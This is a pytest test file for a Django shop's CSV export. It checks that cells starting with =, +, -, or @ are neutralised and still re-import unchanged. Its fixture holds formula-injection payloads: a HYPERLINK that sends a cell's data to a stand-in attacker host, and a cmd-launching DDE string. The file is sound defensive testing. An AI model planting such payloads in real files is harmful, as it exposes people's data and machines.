"""Exported CSVs neutralise formulas: a cell starting with =, +, -, @ cannot run in a spreadsheet.

Before, the seller's product export wrote a title such as `=HYPERLINK(…)` as it was: opened in Excel, it ran.
"""

import csv
import io

import pytest
from django.test import Client

from borderless.catalog import csv_io
from borderless.catalog.models import Product
from borderless.csv_cells import SafeWriter
from factories import make_product, make_seller, owner_of

pytestmark = pytest.mark.django_db

FORMULAS = {
    "title_en": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "brand_name": "@SUM(1+1)*cmd|' /C calc'!A0",
    "description_en": "+1+1 and then some words about ginseng roots",
    "description_zh": "-2+3 人参",
}


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _dangerous(cells) -> list[str]:
    return [
        c
        for c in cells
        if c[:1] in ("=", "+", "-", "@", "\t", "\r") and not c.lstrip("+-").replace(".", "").isdigit()
    ]


def test_the_product_export_neutralises_formulas_and_reimports_them_unchanged():
    seller = make_seller()
    product = make_product(seller, **FORMULAS)
    client = Client()
    client.force_login(owner_of(seller))
    exported = client.get("/seller/csv/export/").content.decode()
    cells = _cells(exported)
    assert _dangerous(cells) == []
    for value in FORMULAS.values():
        assert "'" + value in cells
    report = csv_io.import_products(owner_of(seller), exported.encode(), 1_000_000)
    assert report.ok, report.errors
    product = Product.objects.get(pk=product.pk)
    assert {name: getattr(product, name) for name in FORMULAS} == FORMULAS


def test_every_csv_writer_keeps_numbers_and_neutralises_text():
    out = io.StringIO()
    SafeWriter(out).writerows([["-12.50", "+3", "=1+1", "@A1", "-x", "plain", 7, None]])
    assert _cells(out.getvalue()) == ["-12.50", "+3", "'=1+1", "'@A1", "'-x", "plain", "7", ""]
